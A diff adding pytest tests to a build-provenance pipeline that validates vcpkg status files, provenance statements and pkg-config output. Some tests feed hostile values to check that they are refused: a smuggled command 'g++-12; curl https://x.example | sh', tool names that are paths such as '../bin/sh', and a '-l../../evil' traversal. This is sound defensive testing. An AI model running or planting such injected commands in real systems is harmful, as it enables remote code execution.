@@ -54,6 +54,10 @@ def test_the_vcpkg_port_of_a_pc_file_comes_from_vcpkgs_installed_status(tmp_path
     assert hostlibs.vcpkg_owner(str(pkgconfig / "libcurl.pc")) is None  # listed, but its status says not installed
     assert hostlibs.vcpkg_owner(str(pkgconfig / "stray.pc")) is None  # no port lists it: a local file
     assert hostlibs.vcpkg_owner(str(tmp_path / "elsewhere" / "lib" / "pkgconfig" / "x.pc")) is None
+    # A status whose port version is not vcpkg's number is no origin to record (it would reach the purl).
+    status = pkgconfig.parents[2] / "vcpkg" / "status"
+    status.write_text(STATUS.replace("Port-Version: 5", "Port-Version: 5&triplet=evil"))
+    assert hostlibs.vcpkg_owner(str(pkgconfig / "libavformat.pc")) is None
 
 
 def test_each_origin_has_its_own_purl_and_supplier_and_linux_never_says_vcpkg():
@@ -106,3 +110,91 @@ def test_the_build_environment_is_recorded_only_as_pinned(tmp_path):
         assert info.value.found == value
     with pytest.raises(EnvironmentProblem):
         build_environment.observed({build_environment.CONTAINER_VARIABLE: pin["container"]})  # one without the other
+
+
+def _statement_recording(*dependencies):
+    from pipeline.formats.provenance import Statement
+
+    document = {"predicate": {"buildDefinition": {"resolvedDependencies": list(dependencies)}}}
+    return Statement(b"", document, {}, "", {}, "")
+
+
+def test_a_statement_naming_a_path_or_an_option_as_a_build_host_dependency_is_refused_before_anything_runs():
+    from pipeline.errors import InputError
+    from pipeline.formats.provenance import recorded_host
+
+    compiler = {"name": "build-host:tool:c++", "annotations": {"version": "12.2.0", "origin": "debian", "debian_package": "g++-12", "debian_version": "12.2.0-14+deb12u1"}}
+    [entry] = recorded_host(_statement_recording(compiler))
+    assert (entry["name"], entry["kind"], entry["debian_version"]) == ("c++", "tool", "12.2.0-14+deb12u1")
+    # The rebuild runs '<tool> --version' and 'pkg-config <module>' for each: never a path, an option or another kind.
+    for name in ("build-host:tool:/tmp/evil", "build-host:tool:../bin/sh", "build-host:pkg-config:--define-variable=x", "build-host:script:x"):
+        with pytest.raises(InputError, match="not a module or tool name") as info:
+            recorded_host(_statement_recording({"name": name}), origin="s.intoto.json")
+        assert info.value.found == name and info.value.file == "s.intoto.json"
+    # What the refusal's fix prints as a command to run is package and version words only.
+    hostile = {**compiler, "annotations": {**compiler["annotations"], "debian_package": "g++-12; curl https://x.example | sh"}}
+    with pytest.raises(InputError, match="debian_package that is not a package or version word"):
+        recorded_host(_statement_recording(hostile))
+    # Each entry is probed on this host: none twice, and no more than a build declares.
+    with pytest.raises(InputError, match="twice or more"):
+        recorded_host(_statement_recording(compiler, compiler))
+    from pipeline.formats.provenance import MAX_HOST_DEPENDENCIES
+
+    many = [{"name": f"build-host:pkg-config:lib{i}"} for i in range(MAX_HOST_DEPENDENCIES + 1)]
+    with pytest.raises(InputError, match="twice or more"):
+        recorded_host(_statement_recording(*many))
+    assert len(recorded_host(_statement_recording(*many[:-1]))) == MAX_HOST_DEPENDENCIES
+
+
+def test_two_local_pc_files_that_differ_beyond_their_prefix_never_share_a_digest(tmp_path):
+    def digest(text):
+        path = tmp_path / "x.pc"
+        path.write_text(text)
+        return hostlibs.pc_file_digest(str(path), relocate=True)
+
+    # A file's own '@PREFIX@' text is not the relocated prefix; a folder that merely starts like the prefix is not it.
+    assert digest("prefix=/opt/a\nincludedir=@PREFIX@/include\n") != digest("prefix=/opt/a\nincludedir=/opt/a/include\n")
+    assert digest("prefix=/opt/a\nincludedir=/opt/abc/include\n") != digest("prefix=/opt/x\nincludedir=/opt/xbc/include\n")
+    # The same file under two prefixes still has one digest, with the prefix in flags and at a line's end.
+    assert digest("prefix=/opt/a\nlibdir=/opt/a/lib\nLibs: -L/opt/a/lib -lz\nexec=/opt/a\n") == digest("prefix=/srv/b@1\nlibdir=/srv/b@1/lib\nLibs: -L/srv/b@1/lib -lz\nexec=/srv/b@1\n")
+
+
+def test_what_inspects_a_host_library_is_bounded_in_output_and_in_time_even_with_a_child_left_behind(tmp_path, monkeypatch):
+    import time
+
+    monkeypatch.setattr(hostlibs, "TIMEOUT", 1)
+    tool = tmp_path / "pkg-config"
+    env = {"PATH": "/usr/bin:/bin"}
+    # A child left holding the output (a library constructor can fork) must not keep the caller waiting.
+    tool.write_text("#!/bin/sh\nsleep 8 &\necho /opt/x/include\n")
+    tool.chmod(0o755)
+    started = time.monotonic()
+    assert hostlibs.variable(str(tool), "libavutil", "includedir", env) == "/opt/x/include"
+    assert time.monotonic() - started < 5
+    tool.write_text(f"#!/bin/sh\nhead -c {hostlibs.MAX_OUTPUT_BYTES + 1} /dev/zero\n")
+    assert hostlibs.variable(str(tool), "libavutil", "includedir", env) is None  # more than any answer: not read
+    tool.write_text("#!/bin/sh\nexec sleep 30\n")
+    started = time.monotonic()
+    assert hostlibs.variable(str(tool), "libavutil", "includedir", env) is None
+    assert time.monotonic() - started < 5
+
+
+def test_a_link_name_from_the_pc_file_never_becomes_a_path(tmp_path):
+    libs = tmp_path / "lib"
+    (libs / "lib..").mkdir(parents=True)  # lib../../evil.so would name lib/evil.so
+    (libs / "evil.so").write_bytes(b"\x7fELF not really")
+    (libs / "libok.so").write_bytes(b"\x7fELF not really either")
+    tool = tmp_path / "pkg-config"
+    tool.write_text(f"#!/bin/sh\necho '-L{libs} -l../../evil -lok'\n")
+    tool.chmod(0o755)
+    found = hostlibs.library_files(str(tool), "libx", {"PATH": "/usr/bin:/bin"}, None)
+    assert [(lib.link_name, lib.file) for lib in found] == [("ok", "libok.so")]
+
+
+def test_the_bounded_run_works_where_there_are_no_process_groups(tmp_path, monkeypatch):
+    """The Windows job inspects vcpkg's modules with the same runner: os.killpg is POSIX only."""
+    monkeypatch.delattr(hostlibs.os, "killpg")
+    tool = tmp_path / "pkg-config"
+    tool.write_text("#!/bin/sh\necho C:/vcpkg/installed/x64-windows/include\n")
+    tool.chmod(0o755)
+    assert hostlibs.variable(str(tool), "libavutil", "includedir", {"PATH": "/usr/bin:/bin"}) == "C:/vcpkg/installed/x64-windows/include"
